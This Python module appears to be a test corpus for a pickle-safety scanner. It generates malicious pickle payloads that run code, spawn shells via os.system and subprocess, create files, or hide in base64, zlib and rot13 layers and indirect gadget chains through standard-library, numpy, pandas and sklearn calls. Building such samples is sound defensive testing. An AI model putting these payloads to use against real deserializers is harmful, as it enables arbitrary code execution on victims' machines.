"""Samples that call one function of Python or of a library, which does the harm."""

from __future__ import annotations

import base64
import codecs
import marshal
import zlib
from collections.abc import Callable

from tests.corpus.samples import (
    Sample,
    apply,
    array,
    call,
    code,
    data,
    name,
    number,
    shell,
    stream,
    table,
    text,
)

Make = Callable[[str], bytes]
_EMPTY = b")"


def _inner(marker: str) -> bytes:
    return stream(call("posix:system", text(shell(marker))))


def _buffer(content: bytes) -> bytes:
    return call("_io:BytesIO", data(content))


def _sh(marker: str) -> bytes:
    return array(text("sh"), text("-c"), text(shell(marker)))


def _function(marker: str) -> bytes:
    found = compile(code(marker), "x", "exec")
    return call("types:FunctionType", call("marshal:loads", data(marshal.dumps(found))), b"}")


def _taker(marker: str) -> bytes:
    """Push a function that takes any arguments."""
    found = eval(f"lambda *args: {code(marker)}").__code__
    return call(
        "types:FunctionType", call("marshal:loads", data(marshal.dumps(found))), name("builtins:__dict__")
    )


def _partial(marker: str) -> bytes:
    return call("functools:partial", name("os:system"), text(shell(marker)))


SOURCES: dict[str, Make] = {
    "builtins:eval": lambda m: call("builtins:eval", text(code(m))),
    "builtins:exec": lambda m: call("builtins:exec", text(code(m))),
    "builtins:compile": lambda m: call(
        "builtins:exec", call("builtins:compile", text(code(m)), text("x"), text("exec"))
    ),
    "timeit:timeit": lambda m: call("timeit:timeit", text(code(m)), text("pass")),
    "timeit:main": lambda m: call("timeit:main", array(text("-n1"), text("-r1"), text(code(m)))),
    "cProfile:run": lambda m: call("cProfile:run", text(code(m))),
    "cProfile:runctx": lambda m: call("cProfile:runctx", text(code(m)), b"}", b"}"),
    "profile:run": lambda m: call("profile:run", text(code(m))),
    "profile:Profile.run": lambda m: call("profile:Profile.run", call("profile:Profile"), text(code(m))),
    "bdb:Bdb.run": lambda m: call("bdb:Bdb.run", call("bdb:Bdb"), text(code(m)), b"}", b"}"),
    "trace:Trace.run": lambda m: call("trace:Trace.run", call("trace:Trace"), text(code(m))),
    "trace:Trace.runctx": lambda m: call(
        "trace:Trace.runctx", call("trace:Trace"), text(code(m)), b"}", b"}"
    ),
    "code:InteractiveInterpreter.runsource": lambda m: call(
        "code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), text(code(m))
    ),
    "code:InteractiveInterpreter.runcode": lambda m: call(
        "code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"), text(code(m))
    ),
    "runpy:_run_code": lambda m: call("runpy:_run_code", text(code(m)), b"}"),
    "dataclasses:_create_fn": lambda m: call(
        "dataclasses:_create_fn", text("x"), array(text(f"a={code(m)}")), array(text("return 1"))
    ),
    "typing:_eval_type": lambda m: call(
        "typing:_eval_type", call("typing:ForwardRef", text(code(m))), b"}", b"}"
    ),
    "typing:ForwardRef._evaluate": lambda m: call(
        "typing:ForwardRef._evaluate",
        call("typing:ForwardRef", text(code(m))),
        b"}",
        b"}",
        call("builtins:frozenset"),
    ),
    "typing:get_type_hints": lambda m: call(
        "typing:get_type_hints",
        call("types:SimpleNamespace")
        + table(text("__annotations__"), table(text("x"), text(code(m))))
        + b"b",
        b"}",
    ),
    "numpy.testing._private.utils:runstring": lambda m: call(
        "numpy.testing._private.utils:runstring", text(code(m)), b"}"
    ),
    "numpy.f2py.crackfortran:myeval": lambda m: call(
        "numpy.f2py.crackfortran:myeval", text(code(m)), b"}", b"}"
    ),
    "numpy.f2py.crackfortran:getlincoef": lambda m: call(
        "numpy.f2py.crackfortran:getlincoef", text(code(m)), b"}"
    ),
    "numpy.f2py.crackfortran:param_eval": lambda m: call(
        "numpy.f2py.crackfortran:param_eval", text(code(m)), b"}", b"}"
    ),
    "marshal:loads": lambda m: apply(_function(m)),
    "codeop:compile_command": lambda m: apply(
        call(
            "types:FunctionType",
            call("codeop:compile_command", text(code(m)), text("x"), text("exec")),
            name("builtins:__dict__"),
        )
    ),
    "idlelib.calltip:get_entity": lambda m: call("idlelib.calltip:get_entity", text(code(m))),
    "idlelib.autocomplete:AutoComplete.get_entity": lambda m: call(
        "idlelib.autocomplete:AutoComplete.get_entity", b"N", text(code(m))
    ),
}
"""By what is called: runs source code."""

PROGRAMS: dict[str, Make] = {
    **{
        spelled: (lambda m, spelled=spelled: call(spelled, text(shell(m))))  # type: ignore[misc]
        for spelled in (
            *("os:system", "posix:system", "os:popen", "subprocess:getoutput", "subprocess:getstatusoutput"),
            *("imaplib:IMAP4_stream", "_osx_support:_read_output"),
        )
    },
    **{
        spelled: (lambda m, spelled=spelled: call(spelled, _sh(m)))  # type: ignore[misc]
        for spelled in (
            *("subprocess:Popen", "subprocess:call", "subprocess:check_call", "subprocess:check_output"),
            *("subprocess:run", "pty:spawn", "distutils.spawn:spawn", "setuptools._distutils.spawn:spawn"),
        )
    },
    "os:spawnlp": lambda m: call("os:spawnlp", number(0), text("sh"), text("sh"), text("-c"), text(shell(m))),
    "os:execlp": lambda m: call("os:execlp", text("sh"), text("sh"), text("-c"), text(shell(m))),
    "os:posix_spawn": lambda m: call("os:posix_spawn", text("/bin/sh"), _sh(m), b"}"),
    "multiprocessing.util:spawnv_passfds": lambda m: call(
        "multiprocessing.util:spawnv_passfds",
        data(b"/bin/sh"),
        array(data(b"sh"), data(b"-c"), data(shell(m).encode())),
        b")",
    ),
    "uuid:_get_command_stdout": lambda m: call(
        "uuid:_get_command_stdout", text("sh"), text("-c"), text(shell(m))
    ),
    "pydoc:pipepager": lambda m: call("pydoc:pipepager", text("x"), text(shell(m))),
    "pydoc:tempfilepager": lambda m: call("pydoc:tempfilepager", text("x"), text(f"{shell(m)};:")),
    "webbrowser:GenericBrowser.open": lambda m: call(
        "webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", _sh(m)), text("x")
    ),
    "mailcap:findmatch": lambda m: call(
        "mailcap:findmatch",
        table(
            text("text/plain"),
            array(table(text("view"), text("cat"), text("test"), text(shell(m)))),
        ),
        text("text/plain"),
        text("view"),
        text("x"),
        b"]",
    ),
    "pipes:Template.copy": lambda m: call(
        "pipes:Template.copy",
        name("pipes:Template")
        + b")R"
        + table(text("steps"), array(text(shell(m)) + text("--") + b"\x86"), text("debugging"), b"I0\n")
        + b"b",
        text("/dev/null"),
        text("/dev/null"),
    ),
    "cgitb:os.system": lambda m: call("cgitb:os.system", text(shell(m))),
    "commands:getoutput": lambda m: b"ccommands\ngetoutput\n(S" + repr(shell(m)).encode() + b"\ntR.",
    "__builtin__:eval": lambda m: b"c__builtin__\neval\n(S" + repr(code(m)).encode() + b"\ntR.",
}
"""By what is called: starts programs."""

FILES: dict[str, Make] = {
    "builtins:open": lambda m: call("builtins:open", text(m), text("w")),
    "io:open": lambda m: call("io:open", text(m), text("w")),
    "_io:FileIO": lambda m: call("_io:FileIO", text(m), text("w")),
    "_pyio:open": lambda m: call("_pyio:open", text(m), text("w")),
    "codecs:open": lambda m: call("codecs:open", text(m), text("w")),
    "gzip:open": lambda m: call("gzip:open", text(m), text("w")),
    "bz2:open": lambda m: call("bz2:open", text(m), text("w")),
    "lzma:open": lambda m: call("lzma:open", text(m), text("w")),
    "zipfile:ZipFile": lambda m: call("zipfile:ZipFile", text(m), text("w")),
    "tarfile:open": lambda m: call("tarfile:open", text(m), text("w")),
    "logging:FileHandler": lambda m: call("logging:FileHandler", text(m)),
    "logging.handlers:RotatingFileHandler": lambda m: call("logging.handlers:RotatingFileHandler", text(m)),
    "logging.config:dictConfig": lambda m: call(
        "logging.config:dictConfig",
        table(
            *(text("version"), number(1), text("handlers")),
            table(text("x"), table(text("class"), text("logging.FileHandler"), text("filename"), text(m))),
        ),
    ),
    "pathlib:Path.touch": lambda m: call("pathlib:Path.touch", call("pathlib:PosixPath", text(m))),
    "pathlib:Path.write_text": lambda m: call(
        "pathlib:Path.write_text", call("pathlib:PosixPath", text(m)), text("x")
    ),
    "shutil:copyfile": lambda m: call("shutil:copyfile", text("/dev/null"), text(m)),
    "os:open": lambda m: call("os:open", text(m), number(0o101)),
    "os:mkdir": lambda m: call("os:mkdir", text(m)),
    "os:makedirs": lambda m: call("os:makedirs", text(m)),
    "os:symlink": lambda m: call("os:symlink", text("/dev/null"), text(m)),
    "os:mkfifo": lambda m: call("os:mkfifo", text(m)),
    "distutils.file_util:write_file": lambda m: call(
        "distutils.file_util:write_file", text(m), array(text("x"))
    ),
    "distutils.dir_util:mkpath": lambda m: call("distutils.dir_util:mkpath", text(m)),
    "shelve:open": lambda m: call("shelve:open", text(m)),
    "dbm.dumb:open": lambda m: call("dbm.dumb:open", text(m)),
    "sqlite3:Connection.executescript": lambda m: call(
        "sqlite3:Connection.executescript", call("sqlite3:connect", text(m)), text("create table a(b)")
    ),
    "cProfile:Profile.dump_stats": lambda m: call(
        "cProfile:Profile.dump_stats", call("cProfile:Profile"), text(m)
    ),
    "tempfile:mkdtemp": lambda m: call("tempfile:mkdtemp", text(""), text(m), text("/")),
    "urllib.request:urlretrieve": lambda m: call("urllib.request:urlretrieve", text("data:,x"), text(m)),
    "wave:open": lambda m: call("wave:open", text(m), text("wb")),
    "mailbox:mbox": lambda m: call("mailbox:mbox", text(m)),
    "mailbox:Maildir": lambda m: call("mailbox:Maildir", text(m)),
    "xml.etree.ElementTree:ElementTree.write": lambda m: call(
        "xml.etree.ElementTree:ElementTree.write",
        call("xml.etree.ElementTree:ElementTree", call("xml.etree.ElementTree:Element", text("x"))),
        text(m),
    ),
    "argparse:FileType": lambda m: apply(call("argparse:FileType", text("w")), text(m)),
    "tokenize:open": lambda m: call("tokenize:_builtin_open", text(m), text("w")),
    "plistlib:dump": lambda m: call("plistlib:dump", b"}", call("builtins:open", text(m), text("wb"))),
    "numpy:save": lambda m: call("numpy:save", text(m), array(number(1))),
    "numpy:savetxt": lambda m: call("numpy:savetxt", text(m), array(number(1))),
    "numpy:savez": lambda m: call("numpy:savez", text(m), array(number(1))),
    "numpy:memmap": lambda m: call("numpy:memmap", text(m), text("u1"), text("w+"), number(0), number(1)),
    "numpy:ndarray.tofile": lambda m: call(
        "numpy:ndarray.tofile", call("numpy:array", array(number(1))), text(m)
    ),
    "joblib:dump": lambda m: call("joblib:dump", array(number(1)), text(m)),
    "joblib.disk:mkdirp": lambda m: call("joblib.disk:mkdirp", text(m)),
    "pandas:DataFrame.to_csv": lambda m: call(
        "pandas:DataFrame.to_csv", call("pandas:DataFrame", array(number(1))), text(m)
    ),
    "pandas:DataFrame.to_pickle": lambda m: call(
        "pandas:DataFrame.to_pickle", call("pandas:DataFrame", array(number(1))), text(m)
    ),
    "pandas:to_pickle": lambda m: call("pandas:to_pickle", array(number(1)), text(m)),
    "scipy.io:savemat": lambda m: call("scipy.io:savemat", text(m), b"}"),
    "scipy.sparse:save_npz": lambda m: call(
        "scipy.sparse:save_npz", text(m), call("scipy.sparse:csr_matrix", array(number(1)))
    ),
    "PIL.Image:Image.save": lambda m: call(
        "PIL.Image:Image.save",
        call("PIL.Image:new", text("L"), number(2) + number(2) + b"\x86"),
        text(m),
        text("PNG"),
    ),
    "sklearn.datasets:dump_svmlight_file": lambda m: call(
        "sklearn.datasets:dump_svmlight_file", array(array(number(1))), array(number(1)), text(m)
    ),
    "sklearn.datasets:get_data_home": lambda m: call("sklearn.datasets:get_data_home", text(m)),
    "xgboost.core:Booster.save_model": lambda m: call(
        "xgboost.core:Booster.save_model", call("xgboost.core:Booster"), text(f"{m}.json")
    ),
}
"""By what is called: makes a file."""

UNPICKLERS: dict[str, Make] = {
    **{
        spelled: (lambda m, spelled=spelled: call(spelled, data(_inner(m))))  # type: ignore[misc]
        for spelled in (
            *(
                "pickle:loads",
                "_pickle:loads",
                "pickle:_loads",
                "cloudpickle:loads",
                "cloudpickle.cloudpickle:pickle.loads",
            ),
            *(
                "joblib.numpy_pickle_utils:pickle.loads",
                "multiprocessing.reduction:ForkingPickler.loads",
            ),
            "multiprocessing.reduction:pickle.loads",
        )
    },
    **{
        spelled: (lambda m, spelled=spelled: call(spelled, _buffer(_inner(m))))  # type: ignore[misc]
        for spelled in (
            *("pickle:load", "_pickle:load", "joblib:load", "joblib.numpy_pickle:load", "pandas:read_pickle"),
            *("pandas.io.pickle:read_pickle", "statsmodels.iolib.smpickle:load_pickle"),
        )
    },
    "pickle:Unpickler.load": lambda m: call(
        "pickle:Unpickler.load", call("pickle:Unpickler", _buffer(_inner(m)))
    ),
    "numpy:load": lambda m: call("numpy:load", _buffer(_inner(m)), b"N", b"\x88"),
    "lib2to3.pgen2.grammar:Grammar.loads": lambda m: call(
        "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), data(_inner(m))
    ),
    "base64": lambda m: call(
        "pickle:loads", call("base64:b64decode", text(base64.b64encode(_inner(m)).decode()))
    ),
    "zlib": lambda m: call("pickle:loads", call("zlib:decompress", data(zlib.compress(_inner(m))))),
    "rot13": lambda m: call(
        "builtins:eval", call("codecs:decode", text(codecs.encode(code(m), "rot13")), text("rot13"))
    ),
    "twice": lambda m: call("pickle:loads", data(stream(call("pickle:loads", data(_inner(m)))))),
}
"""By what is called: unpickles other bytes."""

REACHERS: dict[str, Make] = {
    "builtins:getattr": lambda m: apply(
        call("builtins:getattr", call("builtins:__import__", text("os")), text("system")), text(shell(m))
    ),
    "importlib:import_module": lambda m: apply(
        call("builtins:getattr", call("importlib:import_module", text("os")), text("system")), text(shell(m))
    ),
    "importlib:__import__": lambda m: apply(
        call("builtins:getattr", call("importlib:__import__", text("os")), text("system")), text(shell(m))
    ),
    "pydoc:locate": lambda m: apply(call("pydoc:locate", text("os.system")), text(shell(m))),
    "pkgutil:resolve_name": lambda m: apply(call("pkgutil:resolve_name", text("os:system")), text(shell(m))),
    "inspect:getattr_static": lambda m: apply(
        call("inspect:getattr_static", call("builtins:__import__", text("os")), text("system")),
        text(shell(m)),
    ),
    "logging:Filterer.filter": lambda m: (
        call("logging:Filterer")
        + b"\x940"
        + call("logging:Filterer.addFilter", b"h\x00", _taker(m))
        + b"0"
        + call("logging:Filterer.filter", b"h\x00", b"N")
    ),
    "operator:attrgetter": lambda m: apply(
        apply(call("operator:attrgetter", text("system")), call("builtins:__import__", text("os"))),
        text(shell(m)),
    ),
    "operator:attrgetter, numpy": lambda m: apply(
        apply(
            call("operator:attrgetter", text("f2py.crackfortran.os.system")),
            call("pydoc:locate", text("numpy")),
        ),
        text(shell(m)),
    ),
    "operator:methodcaller": lambda m: apply(
        call("operator:methodcaller", text("system"), text(shell(m))), call("builtins:__import__", text("os"))
    ),
    "operator:itemgetter": lambda m: apply(
        call(
            "builtins:getattr",
            apply(call("operator:itemgetter", text("os")), name("sys:modules")),
            text("system"),
        ),
        text(shell(m)),
    ),
    "operator:call": lambda m: call("operator:call", name("os:system"), text(shell(m))),
    "_operator:call": lambda m: call("_operator:call", name("os:system"), text(shell(m))),
    "functools:partial": lambda m: apply(_partial(m)),
    "functools:reduce": lambda m: apply(
        call(
            "functools:reduce",
            name("builtins:getattr"),
            array(call("builtins:__import__", text("os")), text("system")),
        ),
        text(shell(m)),
    ),
    "builtins:map": lambda m: call(
        "builtins:list", call("builtins:map", name("os:system"), array(text(shell(m))))
    ),
    "builtins:map, deque": lambda m: call(
        "collections:deque", call("builtins:map", name("os:system"), array(text(shell(m))))
    ),
    "builtins:filter": lambda m: call(
        "builtins:tuple", call("builtins:filter", name("os:system"), array(text(shell(m))))
    ),
    "itertools:starmap": lambda m: call(
        "builtins:list", call("itertools:starmap", name("os:system"), array(text(shell(m)) + b"\x85"))
    ),
    "itertools:takewhile": lambda m: call(
        "builtins:set", call("itertools:takewhile", name("os:system"), array(text(shell(m))))
    ),
    "itertools:accumulate": lambda m: call(
        "builtins:list",
        call("itertools:accumulate", array(text(code(m)), b"}"), name("builtins:eval")),
    ),
    "builtins:iter": lambda m: call("builtins:list", call("builtins:iter", _partial(m), number(0))),
    "collections:defaultdict": lambda m: call(
        "operator:getitem", call("collections:defaultdict", _partial(m)), text("x")
    ),
    "string:Template": lambda m: call(
        "string:Template.substitute",
        call("string:Template", text("$x")),
        call("collections:ChainMap", call("collections:defaultdict", _partial(m))),
    ),
    "builtins:str.format_map": lambda m: call(
        "builtins:str.format_map", text("{x}"), call("collections:defaultdict", _partial(m))
    ),
    "builtins:type": lambda m: apply(
        call("builtins:type", text("X"), b")", table(text("__init__"), _partial(m)))
    ),
    "concurrent.futures": lambda m: call(
        "concurrent.futures.thread:ThreadPoolExecutor.submit",
        call("concurrent.futures:ThreadPoolExecutor"),
        name("os:system"),
        text(shell(m)),
    ),
    "atexit:register": lambda m: call("atexit:register", name("os:system"), text(shell(m))),
    "weakref:finalize": lambda m: call(
        "weakref:finalize", name("collections:OrderedDict"), name("os:system"), text(shell(m))
    ),
    "contextlib:ExitStack": lambda m: (
        call("contextlib:ExitStack")
        + b"\x940"
        + call("contextlib:ExitStack.callback", b"h\x00", name("os:system"), text(shell(m)))
        + b"0"
        + call("contextlib:ExitStack.close", b"h\x00")
    ),
    "contextvars:Context.run": lambda m: call(
        "contextvars:Context.run", call("contextvars:copy_context"), name("os:system"), text(shell(m))
    ),
    "copy:_reconstruct": lambda m: call(
        "copy:_reconstruct", b"N", b"N", name("os:system"), text(shell(m)) + b"\x85"
    ),
    "re:Scanner": lambda m: call(
        "re:Scanner.scan", call("re:Scanner", array(text(".") + _taker(m) + b"\x86")), text("x")
    ),
    "re:sub": lambda m: call("re:sub", text("x"), _taker(m), text("x")),
    "sched:scheduler": lambda m: (
        call("sched:scheduler")
        + b"\x940"
        + call(
            "sched:scheduler.enter",
            b"h\x00",
            number(0),
            number(1),
            name("os:system"),
            text(shell(m)) + b"\x85",
        )
        + b"0"
        + call("sched:scheduler.run", b"h\x00")
    ),
    "threading:Timer": lambda m: call(
        "threading:Thread.run",
        call("threading:Thread", b"N", name("os:system"), b"N", text(shell(m)) + b"\x85"),
    ),
    "signal:signal": lambda m: (
        call("signal:signal", number(10), _taker(m)) + b"0" + call("signal:raise_signal", number(10))
    ),
    "copyreg:add_extension": lambda m: (
        call("copyreg:add_extension", text("os"), text("system"), number(240))
        + b"0\x82\xf0("
        + text(shell(m))
        + b"tR"
    ),
    "sys:modules": lambda m: (
        name("sys:modules")
        + text("harmless")
        + call("builtins:__import__", text("os"))
        + b"s0"
        + call("harmless:system", text(shell(m)))
    ),
    "pandas:Series.map": lambda m: call(
        "pandas:Series.map", call("pandas:Series", array(text(shell(m)))), name("os:system")
    ),
    "pandas:DataFrame.pipe": lambda m: call("pandas:DataFrame.pipe", call("pandas:DataFrame"), _taker(m)),
    "pandas.core.common:pipe": lambda m: call("pandas.core.common:pipe", text(shell(m)), name("os:system")),
    "numpy:apply_along_axis": lambda m: call(
        "numpy:apply_along_axis", _taker(m), number(0), array(number(1))
    ),
    "numpy:piecewise": lambda m: call("numpy:piecewise", array(number(1)), array(b"\x88"), array(_taker(m))),
    "numpy:fromfunction": lambda m: call(
        "numpy:fromfunction", call("functools:partial", name("builtins:eval"), text(code(m))), b")"
    ),
    "numpy:vectorize": lambda m: apply(call("numpy:vectorize", name("os:system")), array(text(shell(m)))),
    "scipy.optimize:minimize_scalar": lambda m: call("scipy.optimize:minimize_scalar", _taker(m)),
    "sklearn FunctionTransformer": lambda m: call(
        "sklearn.preprocessing._function_transformer:FunctionTransformer.transform",
        call("sklearn.preprocessing._function_transformer:FunctionTransformer", name("os:system")),
        text(shell(m)),
    ),
    "joblib:Parallel": lambda m: call(
        "joblib.parallel:BatchedCalls.__call__",
        call(
            "joblib.parallel:BatchedCalls",
            array(name("os:system") + (text(shell(m)) + b"\x85") + b"}\x87"),
            text("sequential"),
        ),
    ),
}
"""By what reaches or calls the function that does the harm."""


def _all(family: str, table_: dict[str, Make]) -> list[Sample]:
    def finish(make: Make) -> Make:
        def made(marker: str) -> bytes:
            found = make(marker)
            return found if found.startswith(b"c") else stream(found)

        return made

    return [
        Sample(f"{family}-{_plain(spelled)}", finish(make), needs=_module(spelled))
        for spelled, make in table_.items()
    ]


def _plain(spelled: str) -> str:
    return "".join(letter if letter.isalnum() else "_" for letter in spelled)


def _module(spelled: str) -> str:
    found = spelled.partition(":")[0]
    return found if ":" in spelled and found not in ("commands", "__builtin__") else ""


CALLS: list[Sample] = [
    *_all("source", SOURCES),
    *_all("program", PROGRAMS),
    *_all("file", FILES),
    *_all("unpickler", UNPICKLERS),
    *_all("reacher", REACHERS),
]
"""Samples of one call each."""
